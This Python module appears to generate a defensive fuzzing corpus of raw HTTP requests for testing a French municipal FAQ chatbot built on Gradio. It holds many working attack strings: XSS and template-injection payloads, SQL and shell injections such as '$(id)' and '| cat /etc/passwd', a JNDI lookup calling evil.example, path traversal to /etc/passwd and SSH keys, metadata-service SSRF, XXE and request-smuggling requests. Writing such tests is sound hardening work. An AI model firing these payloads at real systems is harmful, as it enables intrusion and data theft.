"""Requests that no page of ours sends, made from families: each is the raw bytes of one HTTP exchange."""

# ruff: noqa: E501  tables, read by their columns

import json
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass
from itertools import product
from urllib.parse import quote, quote_from_bytes

CANARY = "zqcanari"
"""Stands in what is sent, wherever there is room: no log may hold it."""

JSON = (b"Content-Type", b"application/json")
HTML = (b"Accept", b"text/html")
SHA256 = "0" * 64
"""Of the document of the fake assistant."""
FIRST_LETTERS = f"{SHA256}/0-5"


@dataclass(frozen=True, slots=True)
class BadInput:
    """One exchange: what is sent, and what went into it, where it must not come out as markup."""

    family: str
    raw: bytes
    text: str = ""


def exchange(
    method: str,
    target: str | bytes,
    headers: Sequence[tuple[bytes, bytes]] = (),
    body: bytes = b"",
    host: bytes = b"faq.mairie.example",
) -> bytes:
    """One request, after which the connection is to be closed."""
    path = target.encode() if isinstance(target, str) else target
    lines = [method.encode() + b" " + path + b" HTTP/1.1", b"Connection: close"]
    names = {name.lower() for name, _ in headers}
    if b"host" not in names:
        lines.append(b"Host: " + host)
    lines += [name + b": " + value for name, value in headers]
    if (body or method == "POST") and not names & {b"content-length", b"transfer-encoding"}:
        lines.append(b"Content-Length: %d" % len(body))
    return b"\r\n".join(lines) + b"\r\n\r\n" + body


def posted(path: str, body: object) -> bytes:
    """A body as JSON; a lone surrogate travels as an escape."""
    return exchange("POST", path, [JSON], json.dumps(body).encode())


# --- texts -----------------------------------------------------------------------------------------

_PAYLOADS = (
    # markup
    "<script>{c}</script>", '"><img src=x onerror=alert(1)>', "<svg/onload=alert(1)>", "</title><script>1</script>",
    "<iframe src=javascript:alert(1)>", "<a href='javascript:1'>x</a>", "<style>*{{display:none}}</style>",
    "' onmouseover='alert(1)", '" autofocus onfocus="alert(1)', "<!--", "-->", "]]>", "<![CDATA[x]]>", "&lt;b&gt;",
    "&#x3c;b&#x3e;", "<math><mtext></mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=1&gt;'>",
    "<base href=//evil.example/>", "<form action=//evil.example><button>", "<link rel=stylesheet href=//evil.example>",
    "<details open ontoggle=alert(1)>", "<thinking>x</thinking>", "<%00script>", "\x3cscript\x3e",
    # Markdown, LaTeX, templates
    "![i](https://evil.example/i.png)", "[l](javascript:alert(1))", "# titre", "```js\nalert(1)\n```", "| a | b |\n|-|-|",
    "<https://evil.example>", "$$\\href{{javascript:alert(1)}}{{x}}$$", "\\(\\unicode{{x3c}}\\)", "$\\input{{/etc/passwd}}$",
    "{{{{7*7}}}}", "{{% for x in range(9) %}}x{{% endfor %}}", "${{7*7}}", "#{{7*7}}", "<%= 7*7 %>", "{{0.__class__}}",
    "%s%s%n%x", "${{jndi:ldap://evil.example/a}}", "{{{{config.items()}}}}",
    # SQL, shell, logs, spreadsheets, headers
    "' OR 1=1 --", "'; DROP TABLE journal; --", "1 UNION SELECT * FROM sqlite_master", "$(id)", "`id`", "| cat /etc/passwd",
    "=cmd|' /C calc'!A0", "@SUM(1+1)", "a\r\nX-Injected: 1", "a\nERROR motamot: faux", "\x1b[31mrouge\x1b[0m", "\x1b]0;t\x07",
    "../../../etc/passwd", "..\\..\\windows\\win.ini", "file:///etc/passwd", "http://169.254.169.254/latest/meta-data/",
    "true", "null", "NaN", "-1", "0x7fffffff", "1e999", "١٢٣", "²³", "__proto__", "constructor", "toString",
    # characters
    *(f"a{chr(code)}b" for code in (0, 1, 7, 8, 9, 11, 12, 27, 28, 31, 127, 0x80, 0x85, 0x9F, 0xAD)),
    *(f"a{chr(code)}b" for code in (0x200B, 0x200D, 0x200E, 0x200F, 0x2028, 0x2029, 0x202A, 0x202E, 0x2066, 0x2069)),
    *(f"a{chr(code)}b" for code in (0x061C, 0x180E, 0xFEFF, 0xFFF9, 0xFFFD, 0xFFFE, 0xFFFF, 0x1FFFF, 0xE0001, 0x10FFFF)),
    "\u202egpj.exe\u202c", "\u2066\u2067\u2068abc\u2069", "z\u0300\u0301\u0302\u0303\u0304\u0305" * 20, "e" + "\u0301" * 500,
    "\ufdfa" * 100, "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 40, "\U000e0041\U000e0042", "ＳＥＬＥＣＴ", "ﬁn ﬂot ß ẞ İ ı",
    "\u0130" * 200, "कि" * 100, "กำ" * 100, "אבג אבג", "العربية", "\u115f\u1160", "\u2800" * 50, "\xa0" * 50, "😀" * 200,
    # long
    "a" * 2000, "a" * 2001, " " * 2001, "a " * 1000, "a-" * 1000, "'" * 2000, "(" * 2000, "l’" * 1000, "-" * 2000, "1" * 2000,
    "é" * 2000, "e\u0301" * 1000, "\u0301" * 2000, "A" * 2000, "A.B." * 500, "?" * 2000, "\n" * 1999 + "a", "a\t" * 1000,
    *(words * (2000 // len(words)) for words in (
        "bonjour ", "merci ", "merci de me dire ", "est-ce que tu peux me dire ", "c'est le que ", "non pas de la ", "rien à voir ",
        "je voulais dire ", "s'il vous plaît, ", "bon, alors, ", "et si ", "pk ", "CRTE ", "contratt ", "interco ", "CTRE ", "1er janvier ",
        "cntrat cotnrat contrt ", "qzjkw xvbnm wqpzt ", "O’", "AB (ab ab ", "(AB) ", "a’a-a ", "l'l'l'",
    )),
    "et " * 666, "contrat " * 250, "contrta " * 250, "qu'est-ce que c'est que " * 80, "x" * 50_000, "«\xa0" * 1000,
)  # fmt: skip


def texts() -> list[str]:
    """What a visitor may type who wishes harm."""
    marked = (payload.replace("{c}", CANARY).replace("{{", "{").replace("}}", "}") for payload in _PAYLOADS)
    return [text if len(text) > 1900 else f"{text} {CANARY}" for text in marked]


HALVES = ("\ud800", "a\udfffb", "\udc00\ud800", "\ud83d", "\ude00\ud83d" * 100)
"""Half characters: JSON can carry them, no file nor page can."""


def _texts() -> Iterator[BadInput]:
    for text in [*texts(), *HALVES]:
        asked = quote(text.encode("utf-8", "surrogatepass"), safe="")
        yield BadInput("texts asked", posted("/api/ask", {"question": text}), text)
        yield BadInput(
            "texts asked", exchange("POST", "/api/ask", [JSON, HTML], json.dumps({"question": text}).encode()), text
        )
        yield BadInput("texts before", posted("/api/ask", {"question": "et ?", "history": [text] * 3}), text)
        yield BadInput("texts in the chat", predicted({"data": [text, None]}), text)
        for page in ("reponse", "fiche"):
            yield BadInput(f"texts {page}", exchange("GET", f"/{page}?question={asked}", [HTML]), text)
            yield BadInput(f"texts {page}", exchange("GET", f"/{page}?question=et&avant={asked}", [HTML]), text)
        judged = {"journal": "0" * 16, "helpful": False, "comment": text}
        yield BadInput("texts of opinions", posted("/api/feedback", judged), text)
        yield BadInput("texts of opinions", posted("/api/feedback", {**judged, "journal": text}), text)


# --- bodies ----------------------------------------------------------------------------------------

_BODIES = (
    b"", b" ", b"{", b"}", b"[", b"[]", b"{}", b"null", b"true", b"0", b"-0", b"1e400", b"NaN", b"Infinity", b"-Infinity",
    b'"' + CANARY.encode() + b'"', b"'a'", b"{'question': 'a'}", b"{question: 1}", b'{"question": "a"', b'{"question": "a",}',
    b'{"question": "a"} x', b'{"question": "a"}{"question": "b"}', b"/**/{}", b"\xef\xbb\xbf{}", b"\xff\xfe{\x00}\x00",
    '{"question": "é"}'.encode("utf-16"), '{"question": "é"}'.encode("utf-32"), '{"question": "é"}'.encode("latin-1"),
    b'{"question": "\xc0\xaf"}', b'{"question": "\xed\xa0\x80"}', b'{"question": "\xf5\x80\x80\x80"}', b'{"question": "\x00"}',
    b'{"question": "\\u0000"}', b'{"question": "\\ud800"}', b'{"question": "\\uZZZZ"}', b'{"question": "\\x41"}',
    b'{"question": NaN}', b'{"question": 1e999}', b'{"question": ' + b"9" * 5000 + b"}", b'{"question": -' + b"9" * 5000 + b"}",
    b'{"question": 0.' + b"1" * 5000 + b"}", b'{"question": "a", "question": "b"}', b'{"question": "a", "question": 1}',
    b'{"question": "a", "history": [' + b'"b",' * 5000 + b'"b"]}', b'{"question": "a", "histoire": []}',
    b'{"question": "a", "' + b"k" * 30_000 + b'": 1}', b"{" + b",".join(b'"k%d": 1' % n for n in range(3000)) + b"}",
    b"[" * 200, b"[" * 30_000, b"[" * 30_000 + b"]" * 30_000, b'{"a":' * 10_000 + b"1" + b"}" * 10_000,
    b'{"question": ' + b"[" * 20_000 + b"]" * 20_000 + b"}", b'{"data": ' + b"[" * 900 + b"]" * 900 + b"}",
    b"\x00" * 1000, bytes(range(256)), b"PK\x03\x04" + b"\x00" * 100, b"\x1f\x8b\x08\x00" + b"\x00" * 50,
    b"question=a&history=b", b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>",
)  # fmt: skip
_ENDPOINTS = ("/api/ask", "/api/feedback", "/gradio_api/run/predict")
_TYPES = (
    b"", b"text/plain", b"application/x-www-form-urlencoded", b"multipart/form-data", b"multipart/form-data; boundary=x",
    b"application/xml", b"application/json; charset=utf-16", b"application/json; charset=x", b"application/jsonp",
    b"application/json, text/html", b"APPLICATION/JSON", b"application/vnd.api+json", b"*/*", b"image/png", b"a" * 5000, b"\xff\xfe",
    b"application/json;" + b"a=b;" * 3000, CANARY.encode(),
)  # fmt: skip
_ENCODINGS = (b"gzip", b"deflate", b"br", b"zstd", b"identity", b"x", b"gzip, gzip, gzip", b"\xff")


def _bodies() -> Iterator[BadInput]:
    for path, body in product(_ENDPOINTS, _BODIES):
        yield BadInput("bodies", exchange("POST", path, [JSON], body))
    for path, kind in product(_ENDPOINTS, _TYPES):
        yield BadInput("content types", exchange("POST", path, [(b"Content-Type", kind)], b'{"question": "a"}'))
    for path, coding in product(_ENDPOINTS, _ENCODINGS):
        yield BadInput(
            "content types", exchange("POST", path, [JSON, (b"Content-Encoding", coding)], b"\x1f\x8b\x08\x00" * 9)
        )


def _sizes() -> Iterator[BadInput]:
    large = b'{"question": "' + CANARY.encode() + b"x" * 10_000_000
    for path in _ENDPOINTS:
        yield BadInput("sizes", exchange("POST", path, [JSON], large))
        chunked = [JSON, (b"Transfer-Encoding", b"chunked")]
        piece = b"ffff\r\n" + b"x" * 0xFFFF + b"\r\n"
        yield BadInput("sizes", exchange("POST", path, chunked, piece * 160 + b"0\r\n\r\n"))
        yield BadInput("sizes", exchange("POST", path, chunked, b"1\r\nx\r\n" * 5000 + b"0\r\n\r\n"))
        for length in (b"0", b"1", b"65537", b"99999999999999999999", b"9" * 4500):
            yield BadInput("sizes", exchange("POST", path, [JSON, (b"Content-Length", length)], b'{"question": "a"}'))
        for size in (65_536, 65_537):
            yield BadInput("sizes", exchange("POST", path, [JSON], b'{"question": "'.ljust(size, b"x")))
    for path in ("/", "/reponse?question=a", "/motamot/theme.css", "/healthz"):
        yield BadInput("sizes", exchange("GET", path, [], b"x" * 100))
        yield BadInput("sizes", exchange("GET", path, [], b"x" * 100_000))


# --- the chat's door -------------------------------------------------------------------------------

_FUNCTIONS = (-1, 1, 2, 3, 999, 2**31, 2**63, 10**400, 0.5, 1.0, True, "0", "a", [], {}, None)
_DATA = (
    None, "", "a", 0, {}, [], [None], [None, None], [0, None], [True, None], [["a"], None], [{"text": "a"}, None],
    [{"__type__": "update", "value": CANARY}, None], [{"path": "/etc/passwd", "meta": {"_type": "gradio.FileData"}}, None],
    [{"path": "/etc/passwd", "url": "http://127.0.0.1/", "meta": {"_type": "gradio.FileData"}}],
    ["a"], ["a", "b"], ["a", {}], ["a", []], ["a", 0], ["a", "../../etc/passwd"], ["a", CANARY * 500], ["a", "\ud800"],
    ["a", None, None], ["a"] * 5000, [[[[[[]]]]]], ["a", {"turns": []}], ["a", "_" * 21], ["a", "_" * 23], ["a", "é" * 22],
    ["a", "\n" * 22], ["a", "-" * 43],
)  # fmt: skip
_MORE: tuple[Mapping[str, object], ...] = (
    *({"session_hash": value} for value in ("", "a" * 60_000, "\0", "../..", "é", "\ud800", 0, [], {}, True, CANARY)),
    *({"event_id": value} for value in ("", "a" * 60_000, CANARY, 0, [])),
    *({"trigger_id": value} for value in (-1, 999, 10**400, "a", [], None, 1.5)),
    *({"event_data": value} for value in ("a", {}, [], {"_data": {}}, {"target": CANARY}, 10**400)),
    *({"batched": value} for value in (True, "a", 1, None)),
    *({"simple_format": value} for value in (True, "a", None)),
    *({"oauth_token": value} for value in (CANARY, 1, {})),
    *({"request": value} for value in ({}, {"headers": {"host": "evil.example"}}, "a")),
    {"batch_trigger_ids": [1, 2]}, {"username": "admin"}, {"api_name": "ask"}, {"__proto__": {}},
)  # fmt: skip
ASKS = 0
"""Number of the function of the chat page that asks."""


def predicted(changes: Mapping[str, object]) -> bytes:
    """A call of the chat page, altered."""
    call = {"data": ["a", None], "fn_index": ASKS, "session_hash": "abc", "trigger_id": None, "event_data": None}
    return posted("/gradio_api/run/predict", {**call, **changes})


def _calls() -> Iterator[BadInput]:
    for number in _FUNCTIONS:
        for data in (["a", None], [], None):
            yield BadInput("calls of the chat", predicted({"fn_index": number, "data": data}))
    for data in _DATA:
        yield BadInput("calls of the chat", predicted({"data": data}))
        yield BadInput("calls of the chat", predicted({"data": data, "fn_index": 1}))
    for more in _MORE:
        yield BadInput("calls of the chat", predicted(more))
    for name in (
        "ask",
        "predict/",
        "predict/..",
        "0",
        "%2e%2e",
        "start_over",
        "predict%00",
        "PREDICT",
        "predict;x",
        CANARY,
    ):
        body = json.dumps({"data": ["a", None], "fn_index": ASKS}).encode()
        yield BadInput("calls of the chat", exchange("POST", f"/gradio_api/run/{name}", [JSON], body))


# --- addresses -------------------------------------------------------------------------------------

_UPS = (
    "..", "../", "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/%2e%2e/etc/passwd", "%2e%2e%2f" * 8,
    "%252e%252e%252fetc%252fpasswd", "..%5c..%5cwindows%5cwin.ini", "..;/..;/etc/passwd", "....//....//etc/passwd",
    "..%c0%af..%c0%afetc/passwd", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "%e0%80%ae%e0%80%ae/", "..%u2215..%u2215etc",
    "%ef%bc%8e%ef%bc%8e/etc/passwd", "..%00/", "theme.css%00.png", "server.py", "%73erver.py", "chat.js/../server.py",
    "chat.js%2f..%2fserver.py", "./theme.css", "//etc/passwd", "%2fetc%2fpasswd", "file:%2f%2f%2fetc%2fpasswd", "C:%5cwindows",
    "~", "~root/.ssh/id_rsa", ".git/config", ".env", "__pycache__", "__init__.py", "theme.css/", "theme.css%20", "theme.css%0a",
    "theme.css%0d%0aX-Injected:%201", "THEME.CSS", "%ff", "%", "%zz", "%e2%80%ae", "%F0%9F%98%80", "a" * 8000, "a/" * 2000,
    "logo.svg", "logo.%2e%2e", "own.css", "templates/layout.html", "%3Cscript%3Ealert(1)%3C/script%3E", "{{7*7}}", "'%20OR%201=1",
    "?a=b", "#a", ";a=b", "*", "0" * 64, "0" * 64 + "%00", "0" * 63 + "%d9%a0", CANARY,
)  # fmt: skip
_ROOMS = ("motamot", "assets", "static", "document", "fichier", "preuve", "gradio_api/file=", "theme", f"preuve/{SHA256}",
          f"document/{SHA256}")  # fmt: skip


def _addresses() -> Iterator[BadInput]:
    for room, name in product(_ROOMS, _UPS):
        yield BadInput("addresses of files", exchange("GET", f"/{room}/{name}"), name)
    for name in _UPS:
        yield BadInput("addresses of files", exchange("GET", f"/{name}", [HTML]), name)
        yield BadInput("addresses of files", exchange("GET", f"/document/{SHA256}/{name}", [HTML]), name)


_PLACES = (
    "0-0", "5-0", "-1-5", "0--5", "0-999999999", "999999998-999999999", f"0-{'9' * 4000}", f"{'9' * 4000}-{'9' * 4001}", "0-5.5",
    "0x0-0x5", "%d9%a3-%d9%a5", "%c2%b2-%c2%b3", "00-05", "0-05", "0-5%0a", "%200-5", "0-5%20", "+0-5", "0e0-5e0", "0-5-6", "0-",
    "-5", "-", "a-b", "0_0-5", "0%2d5", "0–5", "0-5;", "0-5%00", "0-5.html", "NaN-5",
    "page-0.webp", "page-1.webp", "page-99999.webp", "page-100000.webp", f"page-{'9' * 4000}.webp", "page--1.webp",
    "page-%d9%a1.webp", "page-1.png", "page-1.webp%0a", "page-01.webp", "PAGE-1.WEBP", "page-.webp", "page-1.5.webp",
)  # fmt: skip


def _places() -> Iterator[BadInput]:
    for room, place in product(("preuve", "document"), _PLACES):
        target = quote(place, safe="%;+")
        yield BadInput("places in documents", exchange("GET", f"/{room}/{SHA256}/{target}", [HTML]))
        yield BadInput("places in documents", exchange("GET", f"/{room}/{'f' * 64}/{target}"))
    for page in ("0", "-1", "1", "99999", "9" * 4000, "a", "%d9%a1", "1&page=2", "", "1.0", "%00", "1" + CANARY):
        yield BadInput("places in documents", exchange("GET", f"/document/{FIRST_LETTERS}?page={page}", [HTML]))


_QUERIES = (
    "", "?", "&&&&", "=", "question", "question=", "question=%20", "question=%00", "question=a%00b", "question=%ff", "question=%ed%a0%80",
    "question=%", "question=%u0041", "question=a&question=b", "question[]=a", "question%5b%5d=a", "question=a;question=b",
    "Question=a", f"question={CANARY}&" + "avant=b&" * 3000, "question=a&avant=", "question=a&avant=%00", "question=a&avant=%ff",
    "question=a&" + "avant=" + "x" * 2001, "question=a&avant[]=b", "question=a&autre=1", "a=1&" * 8000, "question=" + "%61" * 2001,
    "question=" + "a" * 30_000, "question=" + "%F0%9F%98%80" * 2000, "question=" + "+" * 2000, "question=a#fragment", "?question=a",
    "question=a%0d%0aX-Injected:%201", "question=%3Cscript%3Ealert(1)%3C/script%3E&avant=%3Cimg%20src=x%20onerror=1%3E",
    "question=" + quote_from_bytes("é".encode("latin-1")), "question=" + quote_from_bytes("é".encode("utf-16")),
)  # fmt: skip


def _queries() -> Iterator[BadInput]:
    for page, query in product(("reponse", "fiche"), _QUERIES):
        yield BadInput("queries", exchange("GET", f"/{page}?{query}", [HTML]))
        yield BadInput("queries", exchange("GET", f"/{page}?{query}"))
    for shape in ("x", "%00", "%3Cscript%3E", "a" * 8000, "panneau&forme=bloc", "%ff", "bloc%0a", '"onload="1', CANARY):
        yield BadInput("queries", exchange("GET", f"/panneau?forme={quote(shape, safe='%&=')}", [HTML]))
    for path in ("/", "/config", "/api", "/accessibilite", "/integration"):
        for query in (
            "view=api",
            "__theme=dark",
            "deep_link=../../etc",
            f"logs={CANARY}",
            "%00",
            "a" * 8000,
            "deep_link=a%00",
        ):
            yield BadInput("queries", exchange("GET", f"{path}?{query}", [HTML]))


# --- headers, methods, HTTP itself -----------------------------------------------------------------

_HOSTS = (
    b"", b"evil.example", b"127.0.0.1:99999", b"[", b"[::1", b"]", b"[::1]:x", b"a b", b"a\tb", b"<script>alert(1)</script>",
    b'"><img src=x onerror=1>', b"evil.example/../", b"evil.example#@faq", b"user:pass@evil.example", b"evil.example:80:80",
    b"a" * 5000, b"\xff\xfe", b"%00", b"localhost@evil.example", b"..", b".", b":", b":80", b"xn--", b"[::ffff:127.0.0.1]",
    b"http://evil.example", b"evil.example,faq.example", b"\xc3\xa9.example", b"evil.example?", b"{{7*7}}",
)  # fmt: skip
_VALUES: tuple[tuple[bytes, tuple[bytes, ...]], ...] = (
    (b"X-Forwarded-For", (b"", b"evil", b"1.2.3.4, " * 900, b"::1", b"[", b"<script>", b"\xff", b"1.2.3.4:99999")),
    (b"X-Forwarded-Host", (b"evil.example", b"[", b"<script>alert(1)</script>", b"", b"a, b", b"\xff", b"//evil.example")),
    (b"X-Forwarded-Proto", (b"javascript", b"", b"http://", b"https,http", b"wss", b"\xff", b"a" * 500, b"<script>")),
    (b"X-Forwarded-Port", (b"0", b"x", b"99999999")),
    (b"X-Forwarded-Prefix", (b"//evil.example", b"../..", b"<script>")),
    (b"Forwarded", (b"for=evil;host=evil.example;proto=javascript", b";;;")),
    (b"X-Original-URL", (b"/gradio_api/upload", b"/metrics")),
    (b"X-Rewrite-URL", (b"/gradio_api/upload",)),
    (b"X-HTTP-Method-Override", (b"DELETE", b"POST")),
    (b"Origin", (b"null", b"https://evil.example", b"file://", b"", b"\xff", b"http://" + b"a" * 5000)),
    (b"Sec-Fetch-Site", (b"cross-site", b"same-site", b"", b"x", b"none, cross-site")),
    (b"Referer", (b"https://evil.example/" + CANARY.encode(), b"[", b"\xff")),
    (b"Cookie", (b"a=b; " * 2000, b"access-token=x", b"=", b"\xff", b"access-token-unsecure=" + CANARY.encode())),
    (b"Authorization", (b"Basic eDp5", b"Bearer " + CANARY.encode(), b"Digest", b"\xff")),
    (b"Accept", (b"text/html;q=x", b"TEXT/HTML", b"*/*;q=0", b"a" * 9000, b"\xff", b"application/xml", b",,,,")),
    (b"Accept-Language", (b"fr" * 3000, b"\xff", b"*;q=9")),
    (b"Accept-Encoding", (b"br;q=9", b"gzip" * 999, b"\xff", b"identity;q=0", b"*")),
    (b"If-None-Match", (b'"a"' * 2000, b"*", b"\xff")),
    (b"If-Modified-Since", (b"demain", b"\xff", b"Thu, 01 Jan 1970 00:00:00 GMT" * 9)),
    (b"If-Range", (b"x", b"\xff")),
    (b"Range", (b"bytes=0-0", b"bytes=-1", b"bytes=5-1", b"bytes=9999999-", b"bytes=a-b", b"bytes=", b"x=1-2", b"bytes=0-,0-,0-",
                b"bytes=" + b",".join(b"%d-%d" % (n, n) for n in range(1000)), b"bytes=0-" + b"9" * 4500, b"bytes=--1", b"\xff",
                b"bytes=" + b"9" * 4500 + b"-")),
    (b"Expect", (b"100-continue", b"x")),
    (b"Upgrade", (b"websocket", b"h2c", b"x")),
    (b"Transfer-Encoding", (b"gzip", b"identity", b"chunked, chunked", b"x")),
    (b"Content-Length", (b"-1", b"+5", b"5, 5", b"0x5", b" ", b"a", b"5.0", b"\xb2", b"9" * 4500)),
    (b"X-Gradio-User", (b"api", CANARY.encode())),
    (b"X-Motamot-Journal", (CANARY.encode(), b"0" * 16)),
    (b"X-Ip-Token", (b"x",)),
    (b"X-Gradio-Server", (b"https://evil.example", b"[", b"http://[", b"\xff", b"javascript:alert(1)", b"http://" + b"a" * 70_000)),
    (b"Nom:", (b"x",)),
    (b"A b", (b"x",)),
    (b"\xff", (b"x",)),
    (b"X-Vide", (b"",)),
    (b"X" * 9000, (b"x",)),
    (b"X-Long", (b"x" * 70_000,)),
)  # fmt: skip


def _headers() -> Iterator[BadInput]:
    reads = ("/", "/panneau", "/api", "/integration", f"/preuve/{FIRST_LETTERS}", "/motamot/theme.css")
    for host, path in product(_HOSTS, reads):
        yield BadInput("headers", exchange("GET", path, [(b"Host", host), HTML]), host.decode("latin-1"))
    for name, values in _VALUES:
        for value, path in product(values, ("/", "/motamot/theme.css", "/integration")):
            yield BadInput("headers", exchange("GET", path, [(name, value), HTML]), value.decode("latin-1"))
        for value in values:
            body = b'{"question": "a"}'
            yield BadInput("headers", exchange("POST", "/api/ask", [JSON, (name, value)], body))
    yield BadInput("headers", exchange("GET", "/", [(b"X-%d" % n, b"y") for n in range(900)]))
    yield BadInput("headers", exchange("GET", "/", [(b"Host", b"a"), (b"Host", b"b")]))


METHODS = ("GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "MKCOL", "COPY", "LOCK",
           "SEARCH", "PURGE", "DEBUG", "GET_", "get", "X" * 200)  # fmt: skip
PAGES = ("/", "/panneau", "/api", "/api/ask", "/api/feedback", "/healthz", "/metrics", "/config", "/embed.js", "/motamot/theme.css",
         "/reponse?question=a", "/fiche?question=a", f"/preuve/{FIRST_LETTERS}", f"/document/{FIRST_LETTERS}",
         f"/fichier/{SHA256}", "/gradio_api/run/predict", "/gradio_api/app_id", "*")  # fmt: skip


def _methods() -> Iterator[BadInput]:
    for method, path in product(METHODS, PAGES):
        if (method, path) not in {("GET", page) for page in PAGES}:
            yield BadInput("methods", exchange(method, path, [], b"x" if method in {"PUT", "PATCH"} else b""))


_BROKEN = (
    b"\r\n\r\n", b"\x00" * 100 + b"\r\n\r\n", b"GET\r\n\r\n", b"GET /\r\n\r\n", b"GET / HTTP/9.9\r\nHost: a\r\n\r\n",
    b"GET / HTTP/1.1\r\n\r\n", b"GET  /  HTTP/1.1\r\nHost: a\r\n\r\n", b"GET / HTTP/1.1\nHost: a\n\n", b"\x16\x03\x01\x02\x00\x01" * 9 + b"\r\n\r\n",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", b"GET http://evil.example/ HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n",
    b"GET /\xff HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n", b"GET /\x00 HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: a\r\n folded\r\nConnection: close\r\n\r\n", b"GET / HTTP/1.1\r\nHost a\r\n\r\n",
    b"GET /" + b"a" * 100_000 + b" HTTP/1.1\r\nHost: a\r\n\r\n", b"GET / HTTP/1.0\r\n\r\n", b"SSH-2.0-x\r\n\r\n",
    b"POST /api/ask HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\n",
    b"POST /api/ask HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nContent-Length: 6\r\nConnection: close\r\n\r\nabcdef",
    b"POST /api/ask HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\nZZ\r\nx\r\n0\r\n\r\n",
    b"POST /api/ask HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n-1\r\nx\r\n0\r\n\r\n",
    b"POST /api/ask HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n" + b"f" * 60 + b"\r\nx\r\n",
)  # fmt: skip


def _broken() -> Iterator[BadInput]:
    for raw in _BROKEN:
        yield BadInput("no HTTP", raw)


# --- Gradio's own doors ----------------------------------------------------------------------------

DOORS = (
    "upload", "upload_progress?upload_id=a", "queue/join", "queue/join/", "queue/data?session_hash=abc", "queue/status",
    "process_recording", "openapi.json", "cancel", "reset", "run/ask", "run/predict/", "api/ask", "api/predict", "call/ask",
    "call/v2/ask", "call/ask/abc", "component_server", "file=/etc/passwd", "file/etc/passwd", "file=..%2f..%2fetc/passwd",
    "proxy=https://evil.example/", "stream/abc/0/1/playlist.m3u8", "stream/abc/0/1/0.ts", "info", "info?all_endpoints=true",
    "app_id/", "startup-events", "heartbeat/abc", "heartbeat/" + "a" * 5000, "dev/reload", "vibe-edit", "vibe-code", "deep_link",
    "deep_link?session_hash=abc", "login_check", "token", "mcp/sse", "mcp/schema", "history", "history/save", "runs", "monitoring",
)  # fmt: skip
OUTER_DOORS = (
    "login", "logout", "user", "token", "app_id", "dev/reload", "manifest.json", "pwa_icon", "theme", "theme.json", "monitoring",
    "monitoring/summary", "docs", "redoc", "openapi.json", "api/openapi", "custom_component/x/client/component/index.js",
    "svelte/svelte.js", "robots.txt/", "gradio_api", "gradio_api/", "queue/join", "upload", "file=/etc/passwd", "run/predict",
    "api/predict", "info", "config/", "mcp", "static/..", "assets/..", "node", "_app/version.json", "sitemap.xml", ".well-known/x",
)  # fmt: skip


def doors() -> list[tuple[str, str]]:
    """Method and path of what Gradio opens and no page of ours needs."""
    inner = [f"/gradio_api/{door}" for door in DOORS]
    return [
        (method, path)
        for path, method in product([*inner, *(f"/{door}" for door in OUTER_DOORS)], ("GET", "POST"))
    ]  # fmt: skip


def _doors() -> Iterator[BadInput]:
    for method, path in doors():
        body = b"" if method == "GET" else b'{"session_hash": "abc", "data": [], "fn_index": 0, "event_id": "a"}'
        headers = [JSON, (b"Origin", b"https://evil.example")] if body else [(b"Origin", b"https://evil.example")]
        yield BadInput("doors of Gradio", exchange(method, path, headers, body))


def bad_inputs() -> list[BadInput]:
    """All of them, the same at every run."""
    makers = (_texts, _bodies, _sizes, _calls, _addresses, _places, _queries, _headers, _methods, _broken, _doors)
    return [made for maker in makers for made in maker()]
